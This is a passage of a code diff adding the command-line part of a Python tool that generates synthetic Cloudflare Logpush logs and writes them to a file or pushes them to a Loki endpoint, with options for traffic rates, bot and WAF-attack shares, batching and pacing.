+        req = urllib.request.Request(self.url, payload, self.headers)
+        for attempt in range(5):
+            try:
+                urllib.request.urlopen(req, timeout=30).close()
+                return
+            except urllib.error.HTTPError as e:
+                if e.code < 500 and e.code != 429:
+                    sys.exit(f"push rejected: HTTP {e.code}: {e.read()[:300].decode(errors='replace')}")
+            except OSError as e:
+                if attempt == 4:
+                    sys.exit(f"push failed: {e}")
+            time.sleep(0.5 * 2 ** attempt)
+
+    def close(self):
+        pass
+
+class FileSink:
+    def __init__(self, path):
+        self.f = sys.stdout.buffer if path == "-" else open(path, "wb")
+
+    def write(self, payload):
+        self.f.write(payload)
+
+    def close(self):
+        if self.f is sys.stdout.buffer:
+            self.f.flush()
+        else:
+            self.f.close()
+
+# ---- CLI -----------------------------------------------------------------------
+
+def _parse_duration(text):
+    units = {"ms": 0.001, "s": 1, "m": 60, "h": 3600, "d": 86400}
+    for u in ("ms", "s", "m", "h", "d"):
+        if text.endswith(u) and text[:-len(u)].replace(".", "", 1).isdigit():
+            return float(text[:-len(u)]) * units[u]
+    return float(text)
+
+def _parse_start(text):
+    if text is None:
+        return time.time_ns()
+    try:
+        return int(float(text) * 1e9)
+    except ValueError:
+        return calendar.timegm(time.strptime(text.replace("Z", ""), "%Y-%m-%dT%H:%M:%S")) * 1_000_000_000
+
+def main():
+    ap = argparse.ArgumentParser(description="Generate synthetic Cloudflare Logpush NDJSON.")
+    sink = ap.add_mutually_exclusive_group(required=True)
+    sink.add_argument("--out", help="output file (.gz = gzip, - = stdout)")
+    sink.add_argument("--push", metavar="URL", help="Loki push endpoint, e.g. http://localhost:3100/loki/api/v1/push")
+    ap.add_argument("--rate", type=float, default=10000, help="lines per second of log time, all datasets (default: 10000)")
+    size = ap.add_mutually_exclusive_group()
+    size.add_argument("--duration", default="1m", help="log time to cover, e.g. 90s, 10m, 2h (default: 1m)")
+    size.add_argument("--lines", type=int, help="stop after about this many lines")
+    ap.add_argument("--start", help="first timestamp, RFC 3339 or unix seconds (default: now)")
+    ap.add_argument("--seed", type=int, default=1, help="random seed (default: 1)")
+    ap.add_argument("--realtime", action="store_true", help="pace output to the wall clock (default with --push)")
+    ap.add_argument("--processes", type=int, default=1, help="worker processes building batches (default: 1)")
+    ap.add_argument("--hosts", default="www.example.com,api.example.com,static.example.com,shop.example.net",
+                    help="comma-separated request hosts, most popular first")
+    ap.add_argument("--scripts", default="api-router,auth-edge,image-resizer", help="comma-separated Worker script names")
+    ap.add_argument("--cardinality", metavar="DIM=N,...",
+                    help="distinct values per dimension (" + ", ".join(f"{k}={v[0]}" for k, v in DIMENSIONS.items()) + ")")
+    ap.add_argument("--zipf", metavar="DIM=S,...",
+                    help="Zipf exponent per dimension (" + ", ".join(f"{k}={v[1]}" for k, v in DIMENSIONS.items()) + ")")
+    ap.add_argument("--bot-share", type=float, default=0.2, help="share of requests from bots, 30%% of them verified (default: 0.2)")
+    ap.add_argument("--attack-share", type=float, default=0.02, help="share of requests that are WAF attacks (default: 0.02)")
+    ap.add_argument("--other-share", type=float, default=0.002, help="share blocked by rate limiting, DDoS, IP/country rules (default: 0.002)")
+    ap.add_argument("--cache-hit", type=float, default=0.85, help="hit ratio of cacheable GETs (default: 0.85)")
+    ap.add_argument("--error-rate", type=float, default=0.005, help="share of 5xx responses (default: 0.005)")
+    ap.add_argument("--workers-share", type=float, default=0.05, help="share of requests that run a Worker (default: 0.05)")
+    ap.add_argument("--job", default="cloudflare-logpush", help="job label for --push (default: cloudflare-logpush)")
+    ap.add_argument("--header", action="append", default=[], metavar="NAME:VALUE", help="extra --push header (e.g. X-Scope-OrgID:tenant)")
+    ap.add_argument("--user", metavar="USER:PASSWORD", help="basic auth for --push")
+    ap.add_argument("--batch", type=int, default=2000, help="requests per batch / push request (default: 2000)")
+    ap.add_argument("--compress-level", type=int, default=1, help="gzip level for .gz output (default: 1)")
+    args = ap.parse_args()
+    for name in {**_pairs(args.cardinality), **_pairs(args.zipf)}:
+        if name not in DIMENSIONS:
+            ap.error(f"unknown dimension {name!r} (choose from {', '.join(DIMENSIONS)})")
+
+    if args.push:
+        headers = dict(h.split(":", 1) for h in args.header)
+        if args.user:
+            headers["Authorization"] = "Basic " + base64.b64encode(args.user.encode()).decode()
+        out, kind = LokiSink(args.push, {k.strip(): v.strip() for k, v in headers.items()}), "loki"
+        args.realtime = True
+    else:
+        out, kind = FileSink(args.out), "gzip" if args.out.endswith(".gz") else "ndjson"
+
+    per_request = lines_per_request(args)
+    dt = 1e9 * per_request / args.rate  # ns between requests
+    start = _parse_start(args.start)
+    if args.lines is not None:
+        total = math.ceil(args.lines / per_request)
+    else:
+        total = math.ceil(_parse_duration(args.duration) * 1e9 / dt)
+    tasks = ((i, min(args.batch, total - i * args.batch), start + i * args.batch * dt, dt, kind, args.compress_level, args.job)
+             for i in range(math.ceil(total / args.batch)))
+
+    pool = None
+    if args.processes > 1:
+        pool = multiprocessing.Pool(args.processes, _init_worker, (args,))
+        results = pool.imap(_render, tasks)
+    else:
+        _init_worker(args)
+        results = map(_render, tasks)
+    wall0 = time.monotonic()
+    done, counts = 0, {}
+    try:
+        for payload, batch_counts in results:
+            done += 1
+            if args.realtime:
+                ahead = done * args.batch * dt / 1e9 - (time.monotonic() - wall0)
+                if ahead > 0:
+                    time.sleep(ahead)
+            out.write(payload)
+            for ds, n in batch_counts.items():
+                counts[ds] = counts.get(ds, 0) + n
+    except (KeyboardInterrupt, BrokenPipeError):
+        pass
+    finally:
+        if pool is not None:
+            pool.terminate()
+        try:
+            out.close()
+        except BrokenPipeError:
+            pass
+    took = time.monotonic() - wall0
+    lines = sum(counts.values())
+    summary = ", ".join(f"{counts.get(ds, 0)} {ds}" for ds in ("http_requests", "firewall_events", "workers_trace_events"))
+    print(f"{lines} lines ({summary}) covering {min(done * args.batch, total) * dt / 1e9:.1f}s of log time, "
+          f"written in {took:.1f}s ({lines / max(took, 1e-9):.0f} lines/s)", file=sys.stderr)
+
+if __name__ == "__main__":
+    main()